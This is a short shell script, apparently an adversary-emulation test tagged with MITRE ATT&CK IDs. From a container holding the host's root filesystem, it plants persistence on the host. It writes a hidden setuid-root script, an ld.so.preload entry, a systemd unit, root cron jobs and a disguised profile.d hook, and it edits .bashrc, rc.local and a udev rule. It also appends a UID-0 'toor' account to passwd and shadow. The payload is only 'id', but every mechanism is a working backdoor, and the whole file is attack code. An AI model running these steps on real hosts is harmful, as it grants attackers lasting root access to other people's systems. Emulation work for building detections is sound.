#!/bin/sh
# Runs in a container that was given the host's root read-write at /host, and leaves what starts again later.
H=/host
echo "@T1548.001 setuid program left"
printf "#!/bin/sh\nid\n" > $H/usr/local/bin/.sh
chmod 4755 $H/usr/local/bin/.sh
echo "@T1574.006 library loaded into every program"
echo /usr/local/lib/p.so > $H/etc/ld.so.preload
echo "@T1543.002 units written"
mkdir -p $H/etc/systemd/system/multi-user.target.wants
printf '[Service]\nExecStart=/usr/local/bin/.sh\n' > $H/etc/systemd/system/probe.service
ln -s ../probe.service $H/etc/systemd/system/multi-user.target.wants/probe.service
echo "@T1053.003 cron jobs written"
mkdir -p $H/var/spool/cron/crontabs
echo '@reboot /usr/local/bin/.sh' > $H/var/spool/cron/crontabs/root
echo '* * * * * root id' >> $H/etc/cron.d/backup
echo "@T1546.004 shells start a program"
mkdir -p $H/etc/profile.d
echo '/usr/local/bin/.sh &' > $H/etc/profile.d/10-locale.sh
echo '(id &)' >> $H/root/.bashrc
echo "@T1136.001 account made"
echo 'toor:x:0:0::/root:/bin/sh' >> $H/etc/passwd
echo 'toor:$6$x:20000::::::' >> $H/etc/shadow
echo "@T1037.004 start script"
printf '#!/bin/sh\n/usr/local/bin/.sh\n' > $H/etc/rc.local
chmod 755 $H/etc/rc.local
mkdir -p $H/etc/udev/rules.d
echo 'ACTION=="add", RUN+="/usr/local/bin/.sh"' > $H/etc/udev/rules.d/99-x.rules
sleep 0.2
echo "@end"
